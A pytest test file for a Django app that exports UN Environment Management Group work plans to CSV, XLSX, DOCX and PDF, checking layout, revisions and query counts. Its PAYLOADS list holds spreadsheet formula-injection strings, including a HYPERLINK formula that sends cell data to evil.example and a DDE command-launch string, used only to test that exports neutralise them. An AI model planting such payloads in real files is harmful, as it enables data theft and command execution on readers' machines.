"""Downloads of a work plan: CSV and XLSX with a row per activity and milestone (formulas typed
into a plan arrive as text), DOCX laid out as the UN document. Each file is read back with the
library a reader's program would use."""

import csv
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from docx import Document as DocxDocument
from openpyxl import load_workbook
from pypdf import PdfReader

from emg.models import Document
from workplans.models import Activity, Milestone
from workplans.services import revision_issue
from workplans.tests.plan_builder import PLAN_2014, PLAN_2021, import_seed, make_plan

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
]
HEADER = [
    "Outcome",
    "Expected outcome",
    "Activity",
    "Activity title",
    "Mandate",
    "Milestone",
    "Milestone text",
    "Schedule",
]


def download(client, name, plan, **query):
    response = client.get(reverse(name, args=[plan.pk]), query)
    assert response.status_code == 200
    return response


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value or "" for cell in row] for row in sheet.iter_rows()]


def texts_of(plan):
    activities = list(Activity.objects.filter(outcome__work_plan=plan))
    milestones = list(Milestone.objects.filter(activity__outcome__work_plan=plan))
    return activities, milestones


@pytest.mark.parametrize("seed", [PLAN_2014, PLAN_2021])
@pytest.mark.parametrize("reader", [read_csv, read_xlsx])
def test_spreadsheets_hold_every_activity_and_milestone_with_its_schedule(
    seed, reader, client_as, senior_official
):
    plan = import_seed(seed)
    activities, milestones = texts_of(plan)
    name = "workplans:export_csv" if reader is read_csv else "workplans:export_xlsx"

    rows = reader(download(client_as(senior_official), name, plan))

    assert rows[0] == HEADER
    assert len(rows) == 1 + len(activities) + len(milestones)
    titles = [row[3] for row in rows[1:] if not row[6]]
    assert sorted(titles) == sorted(a.title for a in activities)
    assert sorted(row[6] for row in rows[1:] if row[6]) == sorted(m.text for m in milestones)
    schedules = {(row[3], row[6]): row[7] for row in rows[1:]}
    for activity in activities:
        assert schedules[activity.title, ""] == (
            str(activity.schedule) if activity.schedule else ""
        )


def test_the_csv_numbers_rows_as_the_2014_plan_does(client_as, secretariat):
    plan = import_seed(PLAN_2014)

    rows = read_csv(download(client_as(secretariat), "workplans:export_csv", plan))

    assert rows[1][:5] == [
        "A",
        rows[1][1],
        "1",
        "IMG on biodiversity",
        "IMG on biodiversity",
    ]
    assert rows[1][1].startswith("Programmatic issues\nEnhanced coherence")
    assert [row[5] for row in rows[1:6]] == ["", "(a)", "(b)", "(c)", "(d)"]
    nested = [row[5] for row in rows if row[0] == "C" and row[5].startswith("(c)(")]
    assert nested == ["(c)(i)", "(c)(ii)", "(c)(iii)", "(c)(iv)", "(c)(v)"]


def test_the_2021_csv_gives_outcome_numerals_and_bullets(client_as, secretariat):
    plan = import_seed(PLAN_2021)

    rows = read_csv(download(client_as(secretariat), "workplans:export_csv", plan))

    assert {row[0] for row in rows[1:]} == {"I", "II", "III"}
    assert [row[2] for row in rows[1:] if row[5] == ""] == [str(n) for n in range(1, 11)]
    assert {row[5] for row in rows[1:] if row[6]} == {"\u2013"}
    assert "October 2021 \u2013 September 2022" in {row[7] for row in rows}


def plan_with_payloads():
    plan = make_plan(1, outcomes=1)
    activity = Activity.objects.get(outcome__work_plan=plan)
    activity.title = "=1+2"
    activity.save()
    for order, payload in enumerate(PAYLOADS, start=3):
        Milestone.objects.create(activity=activity, order=order, text=payload)
    return plan


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(client_as, secretariat):
    plan = plan_with_payloads()

    rows = read_csv(download(client_as(secretariat), "workplans:export_csv", plan))

    cells = [cell for row in rows for cell in row]
    assert "'=1+2" in cells
    for payload in PAYLOADS:
        assert "'" + payload in cells
        assert payload not in cells
    assert "Milestone 1.1.a" in cells  # ordinary text is left alone


def test_xlsx_cells_that_look_like_formulas_are_text(client_as, secretariat):
    plan = plan_with_payloads()

    response = download(client_as(secretariat), "workplans:export_xlsx", plan)

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for payload in ["=1+2", *PAYLOADS]:
        cell = cells[payload]  # exactly as typed
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert not cells["Milestone 1.1.a"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def docx_text(response):
    document = DocxDocument(io.BytesIO(response.content))
    body = [p.text for p in document.paragraphs]
    (table,) = document.tables
    cells = [[cell.text for cell in row.cells] for row in table.rows]
    return body, cells


@pytest.mark.parametrize("seed", [PLAN_2014, PLAN_2021])
def test_the_docx_is_laid_out_as_the_un_document(seed, client_as, senior_official):
    plan = import_seed(seed)
    activities, milestones = texts_of(plan)

    body, cells = docx_text(download(client_as(senior_official), "workplans:export_docx", plan))

    assert body[:2] == ["UNITED NATIONS", "ENVIRONMENT MANAGEMENT GROUP"]
    assert plan.title in body
    assert f"Period: {plan.period}" in body
    assert f"{plan.get_status_display()} \u00b7 {plan.revision_label}" in body[2]
    for paragraph in plan.introduction.split("\n\n"):
        assert paragraph.strip() in body
    for footnote in plan.footnotes.all():
        assert any(footnote.text in line for line in body)
    assert cells[0] == ["Expected outcome", "Activities and milestones", "Schedule"]
    middle = "\n".join(row[1] for row in cells)
    right = "\n".join(row[2] for row in cells)
    for activity in activities:
        assert activity.title in middle
        if activity.schedule:
            assert str(activity.schedule) in right
    for milestone in milestones:
        assert milestone.text in middle
        if milestone.schedule:
            assert str(milestone.schedule) in right
    outcomes = {row[0] for row in cells[1:]}
    assert len(outcomes) == plan.outcomes.count()  # one merged cell per outcome


def test_the_2021_docx_numbers_outcomes_and_activities(client_as, secretariat):
    plan = import_seed(PLAN_2021)

    _, cells = docx_text(download(client_as(secretariat), "workplans:export_docx", plan))

    assert cells[1][0].startswith("I. Enhanced coherence in programming")
    assert cells[1][1].startswith("1. Issue Management Group on Biodiversity")
    assert cells[-1][0].startswith("III. Enhanced dialogue")
    assert cells[-1][1].startswith("10. Environment Management Group Nexus Dialogues")


@pytest.mark.parametrize(
    ("name", "extension"),
    [
        ("workplans:export_csv", "csv"),
        ("workplans:export_xlsx", "xlsx"),
        ("workplans:export_docx", "docx"),
    ],
)
def test_a_revision_downloads_as_frozen_not_as_the_plan_is_now(
    name, extension, client_as, secretariat
):
    plan = make_plan()
    revision_issue(plan=plan, note="Issued for review.", user=secretariat)
    Activity.objects.filter(title="Activity 1.1").update(title="Renamed since")
    client = client_as(secretariat)

    frozen = download(client, name, plan, revision=0)
    current = download(client, name, plan)

    assert frozen["Content-Disposition"] == (
        f'attachment; filename="emg-work-plan-2021-2022-original.{extension}"'
    )
    assert current["Content-Disposition"] == (
        f'attachment; filename="emg-work-plan-2021-2022.{extension}"'
    )
    if extension == "docx":
        frozen_text = "\n".join("\n".join(row) for row in docx_text(frozen)[1])
        current_text = "\n".join("\n".join(row) for row in docx_text(current)[1])
    else:
        reader = read_csv if extension == "csv" else read_xlsx
        frozen_text = str(reader(frozen))
        current_text = str(reader(current))
    assert "Activity 1.1" in frozen_text
    assert "Renamed since" not in frozen_text
    assert "Renamed since" in current_text


def test_a_revision_the_plan_does_not_have_is_not_found(client_as, secretariat):
    plan = make_plan()
    revision_issue(plan=plan, note="Issued for review.", user=secretariat)

    response = client_as(secretariat).get(
        reverse("workplans:export_docx", args=[plan.pk]), {"revision": "4"}
    )

    assert response.status_code == 404


@pytest.mark.parametrize("revision", ["x", "²", "-1", "9" * 20])
def test_a_revision_that_is_not_a_revision_number_is_a_bad_request(
    revision, client_as, secretariat
):
    plan = make_plan()
    revision_issue(plan=plan, note="Issued for review.", user=secretariat)

    response = client_as(secretariat).get(
        reverse("workplans:export_docx", args=[plan.pk]), {"revision": revision}
    )

    assert response.status_code == 400


@pytest.mark.parametrize(
    "name", ["workplans:export_csv", "workplans:export_xlsx", "workplans:export_docx"]
)
def test_downloads_cost_the_same_queries_for_ten_times_the_plan(
    name, client_as, secretariat, django_assert_num_queries
):
    client = client_as(secretariat)
    small, large = make_plan(1), make_plan(10, period=(2023, 2024))

    with CaptureQueriesContext(connection) as one:
        download(client, name, small)
    with django_assert_num_queries(len(one)):
        download(client, name, large)


@pytest.mark.parametrize(
    ("name", "read"),
    [
        ("workplans:export_csv", lambda r: str(read_csv(r))),
        ("workplans:export_xlsx", lambda r: str(read_xlsx(r))),
        ("workplans:export_docx", lambda r: str(docx_text(r))),
    ],
)
def test_a_download_after_an_edit_holds_the_edit(name, read, client_as, secretariat):
    plan = make_plan()
    client = client_as(secretariat)
    assert "Activity 1.1, retitled" not in read(download(client, name, plan))

    Activity.objects.filter(title="Activity 1.1").update(title="Activity 1.1, retitled")

    assert "Activity 1.1, retitled" in read(download(client, name, plan))


def pdf_lines(response) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_a_plan_no_document_publishes_prints_under_its_own_title(client_as, focal_point):
    plan = make_plan()

    response = download(client_as(focal_point), "workplans:export_pdf", plan)

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="emg-work-plan-2021-2022.pdf"'
    text = pdf_lines(response)
    assert plan.title in text
    for activity in Activity.objects.filter(outcome__work_plan=plan):
        assert activity.title in text


def test_a_published_plan_prints_as_its_document_one_click_from_its_page(client_as, secretariat):
    plan = make_plan()
    document = Document.objects.create(
        kind=Document.Kind.WORK_PLAN,
        title="Work plan of the Group",
        symbol="EMG/SOM.27/05",
        distribution="EMG members",
        source=plan,
    )
    client = client_as(secretariat)

    page = client.get(reverse("workplans:detail", args=[plan.pk])).content.decode()
    response = download(client, "workplans:export_pdf", plan)

    assert reverse("workplans:export_pdf", args=[plan.pk]) in page
    assert reverse("documents:docx", args=[document.pk]) in page
    assert response["Content-Disposition"] == 'attachment; filename="emg-som-27-05.pdf"'
    assert "EMG/SOM.27/05" in pdf_lines(response)
    # The very file the meeting's document list serves.
    assert response.content == download(client, "documents:pdf", document).content
